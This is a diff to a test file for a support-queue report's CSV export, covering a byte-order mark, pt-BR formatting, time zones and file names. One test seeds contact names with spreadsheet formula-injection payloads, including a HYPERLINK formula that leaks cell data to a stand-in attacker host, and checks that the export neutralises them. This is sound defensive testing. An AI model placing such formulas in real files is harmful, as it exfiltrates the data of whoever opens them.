@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createTestDatabase, type TestDatabase } from "@/test/database";
 import { UserError } from "@/lib/errors";
 import { parse } from "csv-parse/sync";
-import { conversationsCsv, CSV_COLUMNS, jainIndex, parseReportParams, reportSummary, type ReportFilter } from "./index";
+import { conversationsCsv, CSV_COLUMNS, csvFileName, jainIndex, parseCsvLocale, parseReportParams, reportSummary, type CsvOptions, type ReportFilter } from "./index";
 import { loadFixture, P, type Fixture } from "@/test/reports-fixtures";
 
 let t: TestDatabase;
@@ -21,15 +21,15 @@ afterAll(() => t.drop());
 type CsvRow = Record<(typeof CSV_COLUMNS)[number], string | number | null>;
 const NUMERIC = new Set(["conversation_id", "queue_wait_seconds", "first_response_seconds", "resolution_seconds", "transfers"]);
 
-async function csvText(filter: ReportFilter): Promise<string> {
+async function csvText(filter: ReportFilter, options?: CsvOptions): Promise<string> {
   const chunks: Buffer[] = [];
-  for await (const chunk of await conversationsCsv(t.db, filter)) chunks.push(chunk as Buffer);
+  for await (const chunk of await conversationsCsv(t.db, filter, options)) chunks.push(chunk as Buffer);
   return Buffer.concat(chunks).toString("utf8");
 }
 
 /** The CSV as the endpoint streams it, read back with csv-parse: "" → null, numbers as numbers. */
 async function csvRows(filter: ReportFilter): Promise<CsvRow[]> {
-  const [header, ...records] = parse(await csvText(filter), { skip_empty_lines: true }) as string[][];
+  const [header, ...records] = parse(await csvText(filter), { skip_empty_lines: true, bom: true }) as string[][];
   expect(header).toEqual([...CSV_COLUMNS]);
   const parsed = records.map((values) => Object.fromEntries(header!.map((key, i) => [key, values[i] ?? ""])));
   return parsed.map(
@@ -182,7 +182,7 @@ describe("the CSV", () => {
     const rows = await csvRows(P);
     expect(rows.map((r) => r.conversation_id)).toEqual([f.c.c1, f.c.c2, f.c.c3, f.c.c6, f.c.c7, f.c.c4]);
     const c2 = rows.find((r) => r.conversation_id === f.c.c2)!;
-    expect(c2).toMatchObject({ first_assigned_at: "2026-01-10T02:02:00.000Z", first_assignment_kind: "auto", queue_wait_seconds: 120, transfers: 0, assignee_email: "ana@r.test" });
+    expect(c2).toMatchObject({ first_assigned_at: "2026-01-10T02:02:00.000+00:00", first_assignment_kind: "auto", queue_wait_seconds: 120, transfers: 0, assignee_email: "ana@r.test" });
     expect(rows.find((r) => r.conversation_id === f.c.c3)).toMatchObject({ transfers: 1, first_assignment_kind: "self", resolution_seconds: 7200 });
     expect(rows.find((r) => r.conversation_id === f.c.c6)).toMatchObject({ first_response_at: null, first_response_seconds: null });
   });
@@ -203,13 +203,84 @@ describe("the CSV", () => {
 
   it("streams text with a header and quotes what needs quoting", async () => {
     await t.sql`UPDATE contacts SET profile_name = 'Silva, "Zé"' WHERE id = (SELECT contact_id FROM conversations WHERE id = ${f.c.c7!})`;
-    const lines = (await csvText(P)).trimEnd().split("\n");
+    const text = await csvText(P);
+    // UTF-8 with a byte-order mark, so that a spreadsheet reads the accents as UTF-8.
+    expect([...Buffer.from(text, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const lines = text.slice(1).trimEnd().split("\n");
     expect(lines[0]).toBe(
       "conversation_id,group,channel,contact_wa_id,contact_name,status,assignee_email,created_at,first_assigned_at,first_assignment_kind,first_response_at,closed_at,queue_wait_seconds,first_response_seconds,resolution_seconds,transfers",
     );
     expect(lines).toHaveLength(7);
     expect(lines.find((l) => l.startsWith(`${f.c.c7},`))).toContain('"Silva, ""Zé"""');
     expect((await csvRows(P)).find((r) => r.conversation_id === f.c.c7)?.contact_name).toBe('Silva, "Zé"');
+  });
+});
+
+describe("the CSV people open", () => {
+  it("writes every text cell that a spreadsheet would run as a formula as text, whatever its column", async () => {
+    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2", "@x", "\tX", "\rY"];
+    const ids = [f.c.c1, f.c.c2, f.c.c3, f.c.c6, f.c.c7, f.c.c4];
+    for (const [i, name] of names.entries()) {
+      await t.sql`UPDATE contacts SET profile_name = ${name} WHERE id = (SELECT contact_id FROM conversations WHERE id = ${ids[i]!})`;
+    }
+    const [group] = await t.sql<{ id: number; name: string }[]>`SELECT g.id, g.name FROM channel_groups g JOIN conversations c ON c.group_id = g.id WHERE c.id = ${f.c.c1!}`;
+    const { id: groupId, name: groupName } = group!;
+    await t.sql`UPDATE channel_groups SET name = '=1+1' WHERE id = ${groupId}`;
+    try {
+      const rows = await csvRows(P);
+      expect(ids.map((id) => rows.find((r) => r.conversation_id === id)?.contact_name)).toEqual(names.map((name) => `'${name}`));
+      expect(rows.find((r) => r.conversation_id === f.c.c1)?.group).toBe("'=1+1");
+      // No cell of the file begins a formula.
+      const cells = parse(await csvText(P), { bom: true, relax_column_count: true }) as string[][];
+      expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      expect(await csvText(P)).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
+    } finally {
+      await t.sql`UPDATE channel_groups SET name = ${groupName} WHERE id = ${groupId}`;
+    }
+  });
+
+  it("in pt-BR: semicolons, a decimal comma, and times in the report's time zone with their offset", async () => {
+    const [channel] = await t.sql<{ id: number }[]>`SELECT id FROM channels WHERE group_id = ${f.vendas}`;
+    const [contact] = await t.sql<{ id: number }[]>`INSERT INTO contacts (wa_id, profile_name) VALUES ('5511977770002', 'João; Souza') RETURNING id`;
+    const [c] = await t.sql<{ id: number }[]>`
+      INSERT INTO conversations (contact_id, channel_id, group_id, status, assignee_id, queued_at, created_at)
+      VALUES (${contact!.id}, ${channel!.id}, ${f.vendas}, 'assigned', ${f.ana}, '2026-04-01T10:00:00Z', '2026-04-01T10:00:00Z') RETURNING id`;
+    await t.sql`INSERT INTO assignment_events (conversation_id, group_id, kind, to_user_id, created_at) VALUES (${c!.id}, ${f.vendas}, 'auto', ${f.ana}, '2026-04-01T10:01:30.5Z')`;
+    // The local day of São Paulo (UTC−3).
+    const day = { from: new Date("2026-04-01T03:00:00Z"), to: new Date("2026-04-02T03:00:00Z"), timeZone: "America/Sao_Paulo" };
+    const text = await csvText(day, { locale: "pt-BR" });
+    expect(text.charCodeAt(0)).toBe(0xfeff);
+    const [header, row, ...rest] = text.slice(1).trimEnd().split("\n");
+    expect(rest).toEqual([]);
+    expect(header).toBe(CSV_COLUMNS.join(";"));
+    const cells = (parse(text, { bom: true, delimiter: ";" }) as string[][])[1]!;
+    const cell = (column: (typeof CSV_COLUMNS)[number]) => cells[CSV_COLUMNS.indexOf(column)];
+    expect(cell("contact_name")).toBe("João; Souza");
+    expect(row).toContain('"João; Souza"');
+    expect(cell("created_at")).toBe("2026-04-01T07:00:00.000-03:00");
+    expect(cell("first_assigned_at")).toBe("2026-04-01T07:01:30.500-03:00");
+    expect(cell("queue_wait_seconds")).toBe("90,5");
+    // In English, the same row with commas and a decimal point; UTC unless a zone is asked for.
+    const english = parse(await csvText({ from: day.from, to: day.to }), { bom: true }) as string[][];
+    expect(english[1]![CSV_COLUMNS.indexOf("queue_wait_seconds")]).toBe("90.5");
+    expect(english[1]![CSV_COLUMNS.indexOf("created_at")]).toBe("2026-04-01T10:00:00.000+00:00");
+  });
+
+  it("refuses a language it does not write", () => {
+    expect(parseCsvLocale({ locale: "pt-BR" })).toBe("pt-BR");
+    expect(parseCsvLocale({})).toBe("en");
+    expect(() => parseCsvLocale({ locale: "fr" })).toThrow(expect.objectContaining({ code: "invalid_input", fields: { locale: "reports.invalid.locale" } }));
+  });
+
+  it("is named after the period as the user chose it, in their time zone", () => {
+    const saoPaulo = "America/Sao_Paulo";
+    const week = { from: new Date("2026-01-10T03:00:00Z"), to: new Date("2026-01-17T03:00:00Z"), timeZone: saoPaulo };
+    expect(csvFileName(week)).toBe("fila-conversations-2026-01-10-to-2026-01-16.csv");
+    expect(csvFileName({ ...week, to: new Date("2026-01-11T03:00:00Z") })).toBe("fila-conversations-2026-01-10.csv");
+    expect(csvFileName({ from: new Date("2026-01-10T12:30:00Z"), to: new Date("2026-01-10T20:00:00Z"), timeZone: saoPaulo })).toBe(
+      "fila-conversations-2026-01-10T09h30-to-2026-01-10T17h00.csv",
+    );
+    expect(csvFileName({ from: new Date("2026-01-10T00:00:00Z"), to: new Date("2026-01-12T00:00:00Z") })).toBe("fila-conversations-2026-01-10-to-2026-01-11.csv");
   });
 });
 
@@ -230,7 +301,7 @@ describe("a late event", () => {
     const s = await reportSummary(t.db, day);
     expect(s.queueWaitSeconds).toMatchObject({ median: 60, p90: 60, count: 1 });
     expect(s.assigned).toEqual({ auto: 1, self: 0, manager: 1, transfer: 0 });
-    expect((await csvRows(day)).map((r) => [r.first_assigned_at, r.first_assignment_kind, r.queue_wait_seconds])).toEqual([["2026-03-05T10:01:00.000Z", "manager", 60]]);
+    expect((await csvRows(day)).map((r) => [r.first_assigned_at, r.first_assignment_kind, r.queue_wait_seconds])).toEqual([["2026-03-05T10:01:00.000+00:00", "manager", 60]]);
     // Load over time: Ana held it from 10:01 to 10:05, then Bruno (the span the late event fell in is split).
     const spans = await t.sql<{ userId: number; startedAt: string; endedAt: string | null }[]>`
       SELECT user_id AS "userId", extract(epoch FROM started_at)::float8 AS "startedAt", extract(epoch FROM ended_at)::float8 AS "endedAt"
